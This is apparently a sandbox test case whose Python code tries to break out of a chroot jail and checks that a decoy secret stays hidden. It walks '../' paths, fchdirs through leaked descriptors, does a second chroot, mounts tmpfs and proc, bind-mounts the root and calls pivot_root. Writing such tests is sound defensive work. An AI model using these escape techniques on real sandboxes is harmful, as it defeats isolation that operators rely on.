# attack: 44 leaves its root
# group: D
# tries: dots, leaked directories, a second chroot, pivot_root, mounts
# limits: cpu=1 wall=5
# expect: accepted
# says: done
# secret: not in the output
# control: escapes
MS_BIND = 4096


def dots():
    return open("../" * 60 + "@DECOY@").read()


def leaked():
    for number in range(3, 1024):
        try:
            os.fchdir(number)
        except OSError:
            continue
        return open("../" * 60 + "@DECOY@").read()
    return False


def second_chroot():
    here = os.open("/", os.O_RDONLY)
    os.makedirs("jail", exist_ok=True)
    os.chroot("jail")
    os.fchdir(here)
    for _ in range(60):
        os.chdir("..")
    os.chroot(".")


probe("dots to a host file", dots)
probe("leaked directory", leaked)
probe("chroot", second_chroot)
os.makedirs("new/old", exist_ok=True)
text = ctypes.c_char_p
probe("mount tmpfs", lambda: call(NR["mount"], text(b"t"), text(b"new"),
                                  text(b"tmpfs"), 0, 0))
probe("mount proc", lambda: call(NR["mount"], text(b"p"), text(b"new"),
                                 text(b"proc"), 0, 0))
probe("bind /", lambda: call(NR["mount"], text(b"/"), text(b"new"), 0,
                             MS_BIND | 0x4000, 0))
reach("pivot_root", NR["pivot_root"], text(b"new"), text(b"new/old"))
reach("umount2", NR["umount2"], text(b"/proc"), 2)
print("done")
